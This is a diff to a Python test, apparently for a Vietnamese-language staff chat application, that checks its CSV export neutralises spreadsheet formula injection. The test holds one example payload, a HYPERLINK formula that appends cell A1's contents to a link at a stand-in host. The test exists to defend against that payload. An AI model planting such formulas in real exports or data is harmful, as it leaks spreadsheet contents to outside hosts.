@@ -108,7 +108,8 @@ async def test_csv_cells_never_start_a_formula(engine, person, suite_app):
     await submit_citizen(hoa)
     can = await make_staff(engine, "can", Role.OFFICER, "ea-tul", "Trần Văn Cán")
     formula = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'
-    turn = await can.says(f"/tuchoi CD-2026-000001 {formula}")
+    await can.says(f"/tuchoi CD-2026-000001 {formula}")  # before the branch review: a reason
+    turn = await can.says("Chi hội đã thống nhất, xã duyệt luôn")
     assert turn.text.startswith("Đã ghi: hồ sơ CD-2026-000001 (Nguyễn Thị Hoa) không được công nhận."), turn
     await can.says("/xuat")
     await can.taps("Danh sách hồ sơ")
@@ -116,7 +117,7 @@ async def test_csv_cells_never_start_a_formula(engine, person, suite_app):
     document = turn.replies[0].document
     table = list(csv.reader(io.StringIO(document.read_text(encoding="utf-8-sig"))))
     row = next(r for r in table if r[0] == "CD-2026-000001")
-    assert row[8] == "'" + formula  # shown as text in a spreadsheet, never run
+    assert row[15] == "'" + formula  # the decision note, shown as text in a spreadsheet, never run
     assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in table for cell in r)
 
 
